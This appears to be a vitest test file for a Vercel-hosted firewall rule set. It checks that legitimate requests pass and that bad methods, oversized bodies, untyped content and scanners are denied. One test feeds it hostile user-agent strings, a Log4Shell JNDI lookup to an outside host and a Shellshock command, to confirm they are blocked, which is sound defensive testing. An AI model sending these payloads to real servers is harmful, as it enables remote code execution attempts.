import { API_ROUTES, DEFAULT_POLICY, largestBody, type FirewallFacts } from "@sendcat/shared-types";
import { describe, expect, it } from "vitest";
import { createBurstCounter } from "./evaluate/burst-counter.ts";
import { compileRules } from "./evaluate/compile-rules.ts";
import { evaluate } from "./evaluate/evaluate.ts";
import { RULES } from "./rules.ts";
import { asPushed } from "./testing/as-pushed.ts";
import { apiRequests, pageRequests, requestFor } from "./testing/product-requests.ts";
import { routeMitigation } from "./testing/route-mitigation.ts";
import { mitigatingRoutes } from "./testing/vercel-json.ts";

/** Largest request body that Vercel accepts for a function, bytes. */
const PLATFORM_BODY_BYTES = 4_500_000;

const pushed = compileRules(RULES.map(asPushed));
const routes = mitigatingRoutes();
const counter = createBurstCounter({ maxKeys: 10, now: () => 0 });

const byFirewall = (facts: FirewallFacts) => evaluate(pushed, facts, counter).verdict;
/** Checks both ways to read an expression of `has`, which have to agree. */
const byVercelJson = (facts: FirewallFacts) => [
  ...new Set([routeMitigation(routes, facts, "search"), routeMitigation(routes, facts, "whole")]),
];
const nameOf = ({ method, path, contentLength }: FirewallFacts) =>
  `${method} ${path.replaceAll(/i{80}/g, "{id}")}${contentLength === null ? "" : ` of ${contentLength} bytes`}`;
const named = (requests: readonly FirewallFacts[]) => requests.map((facts) => [nameOf(facts), facts] as const);

describe("requests of the product are admitted", () => {
  it.each(named([...apiRequests(), ...pageRequests()]))("%s", (_name, facts) => {
    expect([byFirewall(facts), ...byVercelJson(facts)]).toEqual(["pass", "pass"]);
  });

  it("no route needs a body that the platform would refuse", () => {
    for (const route of API_ROUTES) expect(largestBody(route, DEFAULT_POLICY)).toBeLessThan(PLATFORM_BODY_BYTES);
  });
});

describe("requests that no route accepts are refused", () => {
  const underApi = API_ROUTES.filter(({ path }) => path.startsWith("/api/"));
  const paths = [...new Set(underApi.map(({ path }) => path))];

  it.each(paths)("%s: a method that the route does not have", (path) => {
    const own = underApi.filter((route) => route.path === path);
    const [route] = own;
    if (!route) throw new Error("no such route");
    for (const method of ["GET", "POST", "PUT", "PATCH", "DELETE", "TRACE"]) {
      if (own.some((one) => one.method === method)) continue;
      expect([method, byFirewall({ ...requestFor(route), method })]).toEqual([method, "deny"]);
    }
  });

  it.each(underApi.map((route) => [`${route.method} ${route.path}`, route] as const))(
    "%s: a body one byte too large",
    (_name, route) => {
      const facts = { ...requestFor(route), contentLength: largestBody(route, DEFAULT_POLICY) + 1 };
      expect(byFirewall(facts)).toBe("deny");
      // Only the firewall distinguishes routes without a body; vercel.json refuses what no route at all would accept.
      const tooLarge = "body" in route ? facts : { ...facts, contentLength: PLATFORM_BODY_BYTES };
      expect(byVercelJson(tooLarge)).toEqual(["deny"]);
    },
  );

  it.each(named(API_ROUTES.filter((route) => "body" in route && route.body.type === "json").map(requestFor)))(
    "%s: no content type, or one that a form can send",
    (_name, facts) => {
      const untyped = { ...facts, contentType: null };
      expect([byFirewall(untyped), ...byVercelJson(untyped)]).toEqual(["deny", "deny"]);
      expect(byFirewall({ ...facts, contentType: "text/plain" })).toBe("deny");
    },
  );

  it("a scanner that names itself, whatever else its user agent says", () => {
    for (const userAgent of ["x ${jndi:ldap://198.51.100.9/a} y", "() { :; }; id", "masscan/1.3 (x)", "a sqlmap/1.8"]) {
      const facts = { ...requestFor(API_ROUTES[0]), userAgent };
      expect([userAgent, byFirewall(facts), ...byVercelJson(facts)]).toEqual([userAgent, "deny", "deny"]);
    }
  });
});
